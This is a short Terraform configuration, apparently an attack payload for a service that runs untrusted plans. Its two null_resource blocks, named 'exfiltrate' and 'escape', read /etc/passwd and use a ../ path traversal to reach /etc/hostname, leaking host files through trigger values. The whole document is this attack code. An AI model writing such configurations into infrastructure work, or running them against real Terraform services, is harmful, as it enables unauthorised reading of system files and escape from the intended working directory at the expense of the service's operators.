resource "null_resource" "exfiltrate" {
  triggers = {
    passwd = file("/etc/passwd")
  }
}
resource "null_resource" "escape" {
  triggers = {
    up = file("../../../../../../../../../etc/hostname")
  }
}
